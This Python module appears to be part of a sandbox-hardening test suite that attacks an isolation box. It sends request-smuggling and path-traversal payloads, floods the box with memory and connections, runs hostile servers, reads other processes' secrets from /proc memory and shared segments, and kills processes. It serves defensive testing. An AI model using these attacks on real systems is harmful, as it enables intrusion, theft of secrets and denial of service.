"""Ways out through the other side: mmrepro's socket, the server, the client."""

from __future__ import annotations

import contextlib
import ctypes
import itertools
import os
import socket
import threading
import time
from collections.abc import Callable, Iterable

from hardening.escapes.attacker import (
    BOUNDS,
    FACTS,
    REACHED,
    SECRET,
    SIGNALLED,
    attack,
    attempt,
    libc,
    own_world,
    say,
    show_content,
)


def door() -> socket.socket:
    """Connect to what mmrepro keeps open for the box: `HOST:PORT`, or the path of a
    socket."""
    place = FACTS["door"]
    if place.startswith("/"):
        connection = socket.socket(socket.AF_UNIX)
        connection.settimeout(3)
        connection.connect(place)
        return connection
    host, _, port = place.rpartition(":")
    return socket.create_connection((host, int(port)), timeout=3)


def send(label: str, *parts: bytes) -> None:
    """Send a request in parts and print how it was answered."""
    try:
        with door() as connection:
            for part in parts:
                connection.sendall(part)
            answer = connection.recv(200)
    except OSError as error:
        say("REFUSED", f"{label}: {error}")
    else:
        say("DONE", f"{label}: {answer[:60]!r}")
        show_content(label, answer)


HEAD = b"POST /v1/completions HTTP/1.1\r\nHost: box\r\n"


@attack(
    "door-malformed",
    "requests that are none: lengths, chunks, addresses, lines",
    BOUNDS,
    needs="door",
)
def malformed() -> None:
    send("length abc", HEAD + b"Content-Length: abc\r\n\r\n")
    send("length -1", HEAD + b"Content-Length: -1\r\n\r\n")
    send("two lengths", HEAD + b"Content-Length: 1\r\nContent-Length: 2\r\n\r\nab")
    send("chunk zz", HEAD + b"Transfer-Encoding: chunked\r\n\r\nzz\r\n")
    send("chunk -5", HEAD + b"Transfer-Encoding: chunked\r\n\r\n-5\r\n")
    send("address", b"GET http://[::1/ HTTP/1.1\r\nHost: box\r\n\r\n")
    send("at sign", b"GET http://localhost:1@127.0.0.1/ HTTP/1.1\r\nHost: box\r\n\r\n")
    send("no line", b"\0" * 4096)
    send(
        "smuggled",
        HEAD
        + b"Transfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\nGET / ",
    )


@attack(
    "door-path",
    "paths that leave the server's: .., full addresses, CONNECT",
    SECRET,
    needs="door",
)
def paths() -> None:
    secret = FACTS["secret_files"][0].encode()
    outside = b"127.0.0.1:%d" % FACTS["tcp4"]
    send("dotdot", b"GET /../../../.." + secret + b" HTTP/1.1\r\nHost: box\r\n\r\n")
    send("file", b"GET file://" + secret + b" HTTP/1.1\r\nHost: box\r\n\r\n")
    send(
        "full",
        b"GET http://" + outside + b"/ HTTP/1.1\r\nHost: " + outside + b"\r\n\r\n",
    )
    send(
        "connect",
        b"CONNECT " + outside + b" HTTP/1.1\r\nHost: " + outside + b"\r\n\r\n",
    )


@attack("door-bodies", "bodies of 60 MB, one after the other", BOUNDS, needs="door")
def bodies() -> None:
    size = 60_000_000
    for number in range(max(1, FACTS["bomb_memory"] // size)):
        head = HEAD + b"Content-Length: %d\r\n\r\n" % size
        send(f"body {number}", head, *[b"x" * 1_000_000] * (size // 1_000_000))


@attack("door-chunk", "one chunk that is larger than every bound", BOUNDS, needs="door")
def chunk() -> None:
    size = FACTS["bomb_memory"]
    head = HEAD + b"Transfer-Encoding: chunked\r\n\r\n%x\r\n" % size
    send("chunk", head, *[b"x" * 1_000_000] * (size // 1_000_000))


@attack("door-headers", "headers without end", BOUNDS, needs="door")
def headers() -> None:
    line = b"X-Long: " + b"x" * 60_000 + b"\r\n"
    send("headers", HEAD, *[line] * (FACTS["bomb_memory"] * 3 // 4 // len(line)))


@attack("door-idle", "400 connections that say nothing", BOUNDS, needs="door")
def idle() -> None:
    connections = []
    for _count in range(400):
        connection = attempt("connect", door)
        if connection is None:
            break
        connections.append(connection)
    say("DONE", f"{len(connections)} connections")
    time.sleep(2)


@attack(
    "server-answers",
    "a server whose answers never end: headers, a chunk, a stream",
    BOUNDS,
    needs="serve",
)
def answers() -> None:
    listener = socket.create_server(("127.0.0.1", int(FACTS["serve"])))
    listener.settimeout(15)
    say("DONE", "listening")
    start = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
    size = FACTS["bomb_memory"]
    endings = [
        (b"HTTP/1.1 200 OK\r\n", b"X-Long: " + b"x" * 60_000 + b"\r\n"),
        (start + b"%x\r\n" % size, b"x" * 1_000_000),
        (start + b"zz\r\n", b""),
        (b"HTTP/1.1 200 OK\r\nContent-Length: abc\r\n\r\n", b""),
    ]
    while True:
        try:
            connection, _address = listener.accept()
        except OSError:
            return
        listener.settimeout(5)
        first, more = endings[0]
        endings.append(endings.pop(0))
        attempt("answer", answer, connection, first, more, size)


def answer(connection: socket.socket, first: bytes, more: bytes, size: int) -> None:
    with connection:
        connection.settimeout(5)
        connection.recv(65536)
        connection.sendall(first)
        sent = 0
        while more and sent < size:
            connection.sendall(more)
            sent += len(more)


@attack(
    "server-redirects",
    "a server that sends mmrepro elsewhere: to a listener of the machine",
    REACHED,
    needs="serve",
)
def redirects() -> None:
    # Each kind of redirect, to where nobody in the box can go himself.
    answer_all(
        b"HTTP/1.1 %d Elsewhere\r\nLocation: http://127.0.0.1:%d/\r\n"
        b"Content-Length: 0\r\n\r\n" % (status, FACTS["tcp4"])
        for status in itertools.cycle((301, 302, 303, 307, 308))
    )


@attack(
    "server-drips",
    "a server that answers one byte a second",
    BOUNDS,
    needs="serve",
)
def drips() -> None:
    answer_all(itertools.repeat(b"HTTP/1.1 200 OK\r\nX-Slow: "), drip=True)


def answer_all(answers: Iterable[bytes], *, drip: bool = False) -> None:
    """Answer whoever asks, as long as somebody does."""
    listener = socket.create_server(("127.0.0.1", int(FACTS["serve"])))
    listener.settimeout(15)
    say("DONE", "listening")
    for text in answers:
        try:
            connection, _address = listener.accept()
        except OSError:
            return
        listener.settimeout(5)
        threading.Thread(target=send_one, args=(connection, text, drip)).start()


def send_one(connection: socket.socket, text: bytes, drip: bool) -> None:
    with connection, contextlib.suppress(OSError):
        connection.settimeout(5)
        connection.recv(65536)
        connection.sendall(text)
        while drip:
            time.sleep(1)
            connection.sendall(b"x")


LOOKED_S = 6.0
"""The other side takes a moment to be there."""
PEER_PLACES = ("tmp", "dev/shm", "var/tmp", "box")


def other_processes() -> list[str]:
    own = {os.getpid(), os.getppid()}
    numbers = [name for name in os.listdir("/proc") if name.isdigit()]
    return [name for name in numbers if int(name) not in own]


def look(label: str, content: bytes) -> bool:
    """Print the other side's secret, where that is what was read."""
    at = content.find(FACTS["secret_start"].encode() + b"-peer")
    if at < 0:
        return False
    say("SECRET", f"{label}: {content[at : at + 60].decode('ascii', 'replace')}")
    return True


def look_again(step: Callable[[], bool]) -> None:
    """Take a step until it has shown the secret, or for some seconds."""
    deadline = time.monotonic() + LOOKED_S
    while not step() and time.monotonic() < deadline:
        time.sleep(0.3)


@attack("peer-secret", "the other side's variables and words", SECRET, needs="peer")
def peer_words() -> None:
    def step() -> bool:
        for name in other_processes():
            for part in ("environ", "cmdline"):
                if look(f"{name}/{part}", read_quietly(f"/proc/{name}/{part}")):
                    return True
        return False

    look_again(step)


@attack(
    "peer-files", "the other side's files, by path and by /proc", SECRET, needs="peer"
)
def peer_files() -> None:
    name = f"{FACTS['marker']}-own-peer"

    def step() -> bool:
        roots = ["", *(f"/proc/{number}/root" for number in other_processes())]
        paths = [f"{root}/{place}/{name}" for root in roots for place in PEER_PLACES]
        paths += [f"/proc/{number}/cwd/{name}" for number in other_processes()]
        return any(look(path, read_quietly(path)) for path in paths)

    look_again(step)


@attack("peer-memory", "the other side's memory and its segment", SECRET, needs="peer")
def peer_memory() -> None:
    libc.shmat.restype = ctypes.c_void_p
    key = int(FACTS["marker"].rpartition("-")[2][:7], 16) ^ 1

    def step() -> bool:
        segment = libc.shmget(key, 4096, 0)
        if segment >= 0 and (address := libc.shmat(segment, None, 0)):
            return look("segment", ctypes.string_at(address, 80))
        return any(look(f"{n}/mem", heap(n)) for n in other_processes())

    look_again(step)


def heap(process: str) -> bytes:
    """The first part of a process's heap; nothing where it is refused."""
    for line in read_quietly(f"/proc/{process}/maps").splitlines():
        if line.endswith(b"[heap]"):
            begin = int(line.partition(b"-")[0], 16)
            with (
                contextlib.suppress(OSError),
                open(f"/proc/{process}/mem", "rb") as file,
            ):
                file.seek(begin)
                return file.read(4 << 20)
    return b""


@attack("peer-sockets", "the other side's own port and socket", SECRET, needs="peer")
def peer_sockets() -> None:
    def by_name() -> bytes:
        with socket.socket(socket.AF_UNIX) as link:
            link.settimeout(2)
            link.connect(f"\0{FACTS['marker']}-peer")
            return link.recv(200)

    def by_port() -> bytes:
        with socket.create_connection(("127.0.0.1", 9999), timeout=2) as link:
            link.settimeout(2)
            return link.recv(200)

    def step() -> bool:
        for label, connect in (("abstract", by_name), ("port", by_port)):
            with contextlib.suppress(OSError):
                if look(label, connect()):
                    return True
        return False

    look_again(step)


@attack("peer-kill", "end the other side, and all else", SIGNALLED, needs="peer")
def peer_kill() -> None:
    time.sleep(LOOKED_S / 2)
    for name in other_processes():
        # In a box its process 1 is the keeper's; outside, the machine's is spared.
        if int(name) > 1 and int(name) != FACTS["harness_pid"]:
            words = read_quietly(f"/proc/{name}/cmdline")
            if own_world() or b"peer.py" in words:
                attempt(f"kill {name}", os.kill, int(name), 9)


def read_quietly(path: str) -> bytes:
    try:
        with open(path, "rb") as stream:
            return stream.read(1 << 20)
    except OSError:
        return b""
